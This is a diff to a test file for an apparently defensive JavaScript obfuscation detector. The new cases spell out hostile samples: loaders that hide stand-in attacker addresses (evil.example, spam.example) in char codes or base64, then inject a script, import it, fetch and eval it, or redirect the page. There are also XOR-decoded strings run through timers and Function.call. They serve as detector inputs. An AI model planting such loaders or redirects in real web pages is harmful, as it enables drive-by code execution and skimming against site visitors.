@@ -67,6 +67,22 @@ def packed(text: str) -> str:
         (f"var s=document['{hexed('createElement')}']('{hexed('script')}');s['{hexed('src')}']="
          f"'{hexed('https://evil.example/w.js')}';document['{hexed('head')}']"
          f"['{hexed('appendChild')}'](s);", "https://evil.example/w.js", RequestType.SCRIPT),
+        # the address's char codes held in a name the location is then set to (a redirect
+        # kit's form: `var l=String.fromCharCode(…);window.location.replace(l)`), or a src
+        (f"window.stop();var l=String.fromCharCode({codes('https://spam.example/go.php?s=4')});"
+         "window.location.replace(l);document.location.href=l;",
+         "https://spam.example/go.php?s=4", RequestType.DOCUMENT),
+        (f"var u=String.fromCharCode({codes('https://evil.example/n.js')});var s=document."
+         "createElement('script');s.src=u;document.head.appendChild(s);",
+         "https://evil.example/n.js", RequestType.SCRIPT),
+        # a hidden address handed to what fetches and runs a script: jQuery's getScript,
+        # a dynamic import, fetch whose answer is evaluated
+        (f"jQuery.getScript(atob('{b64('https://evil.example/g.js')}'));",
+         "https://evil.example/g.js", RequestType.SCRIPT),
+        (f"import(atob('{b64('https://evil.example/m.js')}'));",
+         "https://evil.example/m.js", RequestType.SCRIPT),
+        (f"fetch(atob('{b64('https://evil.example/f.js')}')).then(r=>r.text()).then(eval);",
+         "https://evil.example/f.js", RequestType.SCRIPT),
         # two layers: base64 inside char codes
         (f"eval(String.fromCharCode({codes(f'eval(atob({chr(39)}{b64(LOADER)}{chr(39)}))')}))",
          "https://evil.example/x.js", RequestType.SCRIPT),
@@ -110,6 +126,11 @@ def test_decoded_urls(code: str, url: str, kind: RequestType) -> None:
         # a string hash by XOR beside an eval of a template: no hidden literal to run
         "function h(s){var x=0;for(var i=0;i<s.length;i++){x=(x<<5)^s.charCodeAt(i);}"
         "return x;}var tpl=cfg.tpl;eval(tpl);",
+        # a bundle's hash by XOR beside a timer handed a callback, by function or arrow,
+        # and an inlined font: the timer runs functions, no string
+        "function h(s){var x=0;for(var i=0;i<s.length;i++){x=(x<<5)^s.charCodeAt(i);}"
+        "return x;}function tick(){render(h(location.hash));}var font='" + "QUJD" * 80 + "';"
+        "setTimeout(tick,50);var poll=()=>fetch('/api/live');setInterval(poll,3e4);",
     ],
 )
 def test_not_obfuscation(code: str) -> None:
@@ -184,10 +205,16 @@ def test_code_decoded_by_xor_and_run_is_machine_obfuscation() -> None:
     ("z.charCodeAt(0)^t.charCodeAt(n%t.length)", "window[\"eval\"] (n);"),
     ("z.charCodeAt(0)^t.charCodeAt(n%t.length)", "new Function('',n)();"),
     ("0x5a^z.charCodeAt(0)", "new Function(n)();"),
+    # a timer handed the decoded string runs it as code, as `Function.call`/`apply` build it
+    ("z.charCodeAt(0)^t.charCodeAt(n%t.length)", "setTimeout(n,10);"),
+    ("z.charCodeAt(0)^t.charCodeAt(n%t.length)", "window['setInterval'](n);"),
+    ("z.charCodeAt(0)^t.charCodeAt(n%t.length)", "Function.call(null,n)();"),
+    ("z.charCodeAt(0)^t.charCodeAt(n%t.length)", "Function.apply(window,[n])();"),
 ])
 def test_xor_decoding_run_by_another_spelling_is_machine_obfuscation(xor: str, run: str) -> None:
     """The skimmer's XOR run with its operands swapped, or run by an indirect `eval`
-    (`window['eval'](n)`, `(0,eval)(n)`) or `new Function('', n)`: the same shape."""
+    (`window['eval'](n)`, `(0,eval)(n)`), `new Function('', n)`, `Function.call`/`apply` or
+    a timer handed the string: the same shape."""
     key = "shop.example"
     hidden = "".join(chr(ord(c) ^ ord(key[i % len(key)])) for i, c in enumerate(
         "document.querySelector('#cc').addEventListener('change',function(){});"))[::-1]
@@ -532,3 +559,26 @@ def test_an_inert_payload_the_page_then_runs_or_loads_stays(audit_html: AuditHtm
                         url="https://news.example/a")
     assert [f.severity.value for f in report.findings
             if f.kind == "obfuscated-script"] == ["medium"]
+
+
+def test_a_hidden_address_fetched_for_data_is_no_script_load() -> None:
+    """fetch of a base64 address whose answer is read as JSON loads no code."""
+    decoded = decode_script(f"fetch(atob('{b64('https://api.example/v1/cfg')}')).then(r=>"
+                            "r.json()).then(c=>init(c));")
+    assert not [u for u in decoded.urls if u.loaded and u.type is RequestType.SCRIPT]
+
+
+def test_a_table_read_through_objects_of_indexes_is_resolved() -> None:
+    """javascript-obfuscator's calls through an object of indexes (`g(V.w)`) read as
+    literal calls do; a name two different objects share is left unread."""
+    from auditor.dom.string_table import resolved
+
+    table = ("function s(){var o=['src','createElement','head'];s=function(){return o;};"
+             "return s();}function t(w,B){var J=s();return t=function(n,x){n=n-0x10;return J[n];"
+             "},t(w,B);}(function(a,b){var c=function(d){while(--d){a['push'](a['shift']());}};"
+             "c(++b);}(s,0x3));")
+    code = table + "var V={w:0x11,B:'0x10'},d=document[t(V.w)]('script');d[t(V.B)]='/x.js';"
+    assert resolved(code) is not None
+    assert "document['createElement']('script')" in (resolved(code) or "")
+    shared = code + "(function(){var V={w:0x12};document[t(V.w)];})();"
+    assert resolved(shared) is None
